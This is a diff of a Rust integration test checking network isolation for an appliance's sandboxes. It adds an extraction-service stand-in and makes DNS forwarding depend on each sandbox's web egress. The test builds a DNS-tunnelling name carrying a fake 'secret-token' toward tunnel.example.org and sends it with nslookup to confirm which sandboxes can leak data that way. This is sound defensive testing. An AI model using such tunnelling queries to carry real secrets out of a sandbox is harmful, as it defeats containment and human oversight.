@@ -28,6 +28,9 @@
 //!    user, and it resolves names with the outside DNS server
 //!    (`dns_nameservers`); everything else is the generated file;
 //! 3. image, command and host paths as in tests/sandbox.rs;
+//! 5. the bridge resolver's upstream (the host's own resolvers on the
+//!    appliance, from /etc/resolv.conf) is the outside DNS server
+//!    (`--server`), so a name query that gets through is seen there;
 //! 4. a spec's `platform = "kvm"` runs as systrap (kvm hangs in this nested
 //!    VM).
 
@@ -336,7 +339,7 @@ struct ServiceStandin<'a> {
     port: &'a str,
 }
 
-/// A service sandbox (Ollama's, SearXNG's) with its generated options
+/// A service sandbox (Ollama's, SearXNG's, webextract's) with its generated options
 /// (minus the GPU device, and minus the port published on the overlay
 /// address, which this namespace lacks), running a busybox httpd that
 /// answers `site <label>` on the service's port instead of the service: the
@@ -452,6 +455,12 @@ fn tunnel(name: &str, proxy: &str, target: &str, allowed: bool) -> Case {
 }
 
 /// Every path tried from `sandbox`; `allowed` follows its reach alone.
+/// A name that carries data out in its labels, one per sandbox, so the
+/// outside DNS server's log tells whose query got through.
+fn tunnel_name(sandbox: &str) -> String {
+    format!("mzxw6ytboi.secret-token-{sandbox}.tunnel.example.org")
+}
+
 fn cases(sandbox: &Sandbox, gateway: &str, others: &[String], services: &[(&str, SocketAddrV4)]) -> Vec<Case> {
     let reaches = |service: &str| sandbox.reach.iter().any(|r| r.service == service);
     let mut cases = Vec::new();
@@ -471,25 +480,22 @@ fn cases(sandbox: &Sandbox, gateway: &str, others: &[String], services: &[(&str,
         let (ip, port) = (address.ip().to_string(), address.port().to_string());
         cases.push(direct(service, &ip, &port, service, reaches(service)));
     }
-    // The resolver answers (REFUSED), but no outside name and nothing that
-    // would carry data out.
-    let resolver = if reaches("dns") { "REFUSED" } else { "(dns blocked)" };
+    // The bridge resolver forwards outside names, to the sandboxes with
+    // `web` egress only: for the others a query is a way out they do not
+    // otherwise have, so the firewall refuses them the resolver.
     cases.push(case(
-        "bridge resolver answers no outside name",
+        "bridge resolver resolves a public name",
         format!("timeout 3 nslookup news.example.org {gateway} 2>&1 || true"),
-        false,
+        reaches("dns"),
         "Name:",
     ));
     cases.push(case(
-        "bridge resolver is reachable",
-        format!("timeout 3 nslookup news.example.org {gateway} 2>&1 || true"),
-        reaches("dns"),
-        resolver,
-    ));
-    cases.push(case(
         "DNS tunnelling name through the bridge resolver",
-        format!("timeout 3 nslookup mzxw6ytboi.secret-token.tunnel.example.org {gateway} 2>&1 || true"),
-        false,
+        format!(
+            "timeout 3 nslookup {} {gateway} 2>&1 || true",
+            tunnel_name(&sandbox.name)
+        ),
+        reaches("dns"),
         "Name:",
     ));
     cases.push(case(
@@ -635,6 +641,13 @@ fn services_of(appliance: &Appliance, host: &str) -> Vec<(&'static str, SocketAd
         .filter(|a| a.host == host)
         .find_map(|a| a.search_address);
     services.extend(search.map(|a| ("search", a)));
+    // ... and its extraction sandbox.
+    let extract = appliance
+        .agents
+        .values()
+        .filter(|a| a.host == host)
+        .find_map(|a| a.extract_address);
+    services.extend(extract.map(|a| ("extract", a)));
     services
 }
 
@@ -672,10 +685,10 @@ fn observed_services(results: &[(String, String)], cases: &[Case]) -> BTreeSet<S
             continue;
         }
         match name.as_str() {
-            "matrix" | "inference" | "search" => {
+            "matrix" | "inference" | "search" | "extract" => {
                 seen.insert(name.clone());
             }
-            "bridge resolver is reachable" => {
+            "bridge resolver resolves a public name" => {
                 seen.insert("dns".to_string());
             }
             n if n.starts_with("proxy:") => {
@@ -895,25 +908,35 @@ fn prove(spec_dir: &Path, host_name: &str, suffix: &str) {
         "0.0.0.0",
         HOST_OTHER_PORT,
     ));
-    // The bridge resolver, with the generated module's settings.
+    // The bridge resolver, with the generated module's settings, when the
+    // host runs one (a sandbox with `web` egress), forwarding to the
+    // outside DNS server in place of the host's resolvers.
     let module = fs::read_to_string(generated.join(format!("hosts/{host_name}/default.nix"))).unwrap();
-    assert!(
-        module.contains("no-resolv = true;"),
-        "the generated resolver forwards upstream"
+    assert_eq!(
+        module.contains("services.dnsmasq"),
+        hub.resolves_names(),
+        "the host runs the resolver exactly when a sandbox may reach it"
     );
-    services.push(world.appliance.spawn(
-        "dnsmasq",
-        &[
-            "--keep-in-foreground",
-            "--user=root",
-            &format!("--listen-address={gateway}"),
-            "--bind-dynamic",
-            "--no-hosts",
-            "--no-resolv",
-            &format!("--pid-file={}", scratch.join("bridge-dns.pid").display()),
-        ],
-        &scratch.join("bridge-dns.log"),
-    ));
+    assert!(
+        !module.contains("no-resolv"),
+        "the generated resolver must forward to the host's resolvers"
+    );
+    if hub.resolves_names() {
+        services.push(world.appliance.spawn(
+            "dnsmasq",
+            &[
+                "--keep-in-foreground",
+                "--user=root",
+                &format!("--listen-address={gateway}"),
+                "--bind-dynamic",
+                "--no-hosts",
+                "--no-resolv",
+                &format!("--server={INTERNET}"),
+                &format!("--pid-file={}", scratch.join("bridge-dns.pid").display()),
+            ],
+            &scratch.join("bridge-dns.log"),
+        ));
+    }
     // The egress proxy.
     let squid_conf = scratch.join("squid.conf");
     fs::write(&squid_conf, squid_config(&hub, scratch)).unwrap();
@@ -957,6 +980,16 @@ fn prove(spec_dir: &Path, host_name: &str, suffix: &str) {
         let standin = ServiceStandin {
             name: search,
             label: "search",
+            port: &port,
+        };
+        start_service_standin(&daemon, &world.appliance, &probe, &hub, &standin, &generated, scratch);
+    }
+    let extract = agent_appliance::model::services::EXTRACT_SANDBOX;
+    if hub.sandboxes.iter().any(|s| s.name == extract) {
+        let port = agent_appliance::model::services::EXTRACT_PORT.to_string();
+        let standin = ServiceStandin {
+            name: extract,
+            label: "extract",
             port: &port,
         };
         start_service_standin(&daemon, &world.appliance, &probe, &hub, &standin, &generated, scratch);
@@ -1119,10 +1152,21 @@ fn prove(spec_dir: &Path, host_name: &str, suffix: &str) {
             ));
         }
     }
-    // DNS tunnelling: the outside server never saw the query.
+    // DNS tunnelling: the outside server saw the query of exactly the
+    // sandboxes with `web` egress (which may send the same data through the
+    // proxy anyway), never another's.
     let dns_log = fs::read_to_string(scratch.join("outside-dns.log")).unwrap_or_default();
-    if dns_log.contains("secret-token") {
-        failures.push(format!("a tunnelling query reached the outside DNS server:\n{dns_log}"));
+    for sandbox in &networked {
+        let reached = dns_log.contains(&format!("secret-token-{}.", sandbox.name));
+        let may = sandbox.reach.iter().any(|r| r.service == "dns");
+        if reached != may {
+            failures.push(format!(
+                "{}: its tunnelling query {} the outside DNS server, but its egress is {:?}:\n{dns_log}",
+                sandbox.name,
+                if reached { "reached" } else { "did not reach" },
+                sandbox.egress
+            ));
+        }
     }
     // The proxy saw and refused what it should (its log, for the record).
     let access = fs::read_to_string(scratch.join("squid/access.log")).unwrap_or_default();
